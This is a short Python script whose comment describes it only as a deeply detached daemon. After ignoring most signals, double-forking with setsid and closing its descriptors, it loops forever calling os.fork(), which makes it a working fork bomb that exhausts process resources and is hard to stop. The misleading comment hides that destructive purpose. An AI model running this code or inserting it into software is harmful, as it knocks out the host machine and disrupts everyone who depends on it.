# must: a daemon two forks and two sessions deep, closed off from all descriptors
import os, signal, time
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
for i in range(3):
    if os.fork(): os._exit(0) if i else os.wait()
    os.setsid()
os.closerange(0, 128)
while True:
    try: os.fork()
    except OSError: pass
    time.sleep(.01)
